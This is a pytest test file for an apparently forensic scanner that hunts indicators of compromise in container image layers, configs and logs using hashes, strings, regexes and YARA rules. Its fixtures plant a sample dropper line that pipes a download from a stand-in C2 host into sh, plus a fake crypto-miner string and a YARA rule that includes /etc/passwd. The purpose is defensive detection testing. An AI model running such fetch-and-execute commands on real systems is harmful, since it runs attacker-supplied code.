"""IoC search in real image archives: a planted file that a later layer deletes, another one
overwritten, config and history, plus a decoy image with the same layout and none of them;
hash lists, strings, a regex and a YARA rule compiled by the real engine."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from hullguard.errors import InputError
from hullguard.forensics.ingest import IngestSpec, ingest
from hullguard.forensics.ioc import Indicators, IocReport, ioc_scan, load_iocs, load_yara
from hullguard.images.builder import FileSpec, ImageSpec, LayerSpec, write_docker_archive

DROPPER = b"#!/bin/sh\ncurl -s http://c2.evil.example/stage2 | sh\n"
MINER = b"\x7fELF fake xmrig --donate-level 1 -o pool.evil.example:3333\n"
YARA_RULE = """
rule evil_dropper {
  strings:
    $c2 = "c2.evil.example"
    $pipe = /curl -s [^|]+\\| *sh/
  condition:
    all of them
}
"""


def _image(dropper: bytes, miner: bytes, env: str) -> ImageSpec:
    base = LayerSpec((FileSpec("opt", kind="dir", mode=0o755),
                      FileSpec("opt/tools", kind="dir", mode=0o755),
                      FileSpec("opt/tools/setup.sh", dropper, mode=0o755),
                      FileSpec("usr/bin/helper", miner, mode=0o755)),
                     created_by="COPY tools /opt/tools")
    cleanup = LayerSpec((FileSpec("opt/tools/.wh.setup.sh"),
                         FileSpec("usr/bin/helper", b"#!/bin/sh\necho helper\n", mode=0o755)),
                        created_by="RUN rm /opt/tools/setup.sh && cp clean /usr/bin/helper")
    return ImageSpec([base, cleanup], config={"Env": [env], "Cmd": ["/bin/sh"]})


@pytest.fixture(scope="module")
def images(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str]:
    root = tmp_path_factory.mktemp("ioc")
    bad = write_docker_archive(root / "bad.tar", _image(DROPPER, MINER,
                                                        "BEACON=pool.evil.example"), "bad:1")
    decoy = write_docker_archive(root / "decoy.tar", _image(
        b"#!/bin/sh\ncurl -s https://example.com/install | head\n",
        b"\x7fELF fake tool --level 1\n", "MODE=production"), "decoy:1")
    return f"docker-archive:{bad}", f"docker-archive:{decoy}"


@pytest.fixture(scope="module")
def indicators(tmp_path_factory: pytest.TempPathFactory) -> Indicators:
    root = tmp_path_factory.mktemp("iocs")
    iocs = root / "iocs.txt"
    iocs.write_text("# hashes from the advisory\n"
                    f"{hashlib.sha256(DROPPER).hexdigest()}\n"
                    f"sha1:{hashlib.sha1(MINER).hexdigest()}\n"
                    f"{hashlib.md5(b'never present').hexdigest()}\n"
                    "string:pool.evil.example\n"
                    "regex:xmrig --donate-level [0-9]+\n")
    rules = root / "rules"
    rules.mkdir()
    (rules / "dropper.yar").write_text(YARA_RULE)
    return load_yara(rules, load_iocs(iocs))


@pytest.fixture(scope="module")
def report(images: tuple[str, str], indicators: Indicators) -> IocReport:
    return ioc_scan(images, indicators)


def _hits(report: IocReport, image: str) -> set[tuple[str, str, str]]:
    return {(m.path, m.state, m.indicator.partition(":")[0]) for m in report.matches
            if m.target == image}


def test_deleted_and_overwritten_files_are_found(report: IocReport,
                                                 images: tuple[str, str]) -> None:
    hits = _hits(report, images[0])
    assert ("/opt/tools/setup.sh", "deleted", "sha256") in hits
    assert ("/opt/tools/setup.sh", "deleted", "yara") in hits
    assert ("/usr/bin/helper", "overwritten", "sha1") in hits
    assert ("/usr/bin/helper", "overwritten", "string") in hits
    assert ("/usr/bin/helper", "overwritten", "regex") in hits
    assert ("config:Env[0]", "config", "string") in hits
    assert not any(kind == "md5" for _, _, kind in hits)
    layers = {m.where for m in report.matches if m.path == "/opt/tools/setup.sh"}
    assert len(layers) == 1 and layers.pop().startswith("sha256:")


def test_decoy_image_has_none(report: IocReport, images: tuple[str, str]) -> None:
    assert _hits(report, images[1]) == set()


def test_logs_are_searched_for_strings_and_regexes(tmp_path: Path, indicators: Indicators) -> None:
    log = tmp_path / "app.log"
    log.write_bytes(b"2026-03-02T10:00:00Z stdout F ok\n"
                    b"2026-03-02T10:00:05Z stdout F connecting to pool.evil.example:3333\n")
    ingest(tmp_path / "case", [IngestSpec.parse(f"cri-log:{log}")])
    found = ioc_scan([], indicators, case=tmp_path / "case")
    assert [(m.path, m.indicator) for m in found.matches] == [
        (f"{log}:2", "string:pool.evil.example")]


def test_bad_indicator_files_are_input_errors(tmp_path: Path) -> None:
    bad = tmp_path / "bad.txt"
    for text in ("abc\n", "regex:([unclosed\n", "sha1:" + "a" * 64 + "\n"):
        bad.write_text(text)
        with pytest.raises(InputError):
            load_iocs(bad)
    import os

    fifo = tmp_path / "iocs.fifo"
    os.mkfifo(fifo)
    for endless in (Path("/dev/zero"), fifo, tmp_path):  # never end, or no file at all
        with pytest.raises(InputError, match=r"regular file|not a file|directory"):
            load_iocs(endless)
    rule = tmp_path / "bad.yar"
    rule.write_text('include "/etc/passwd"\nrule x { condition: true }\n')
    with pytest.raises(InputError):
        load_yara(rule)
    with pytest.raises(InputError):
        ioc_scan(["docker-archive:/nonexistent.tar"], Indicators())
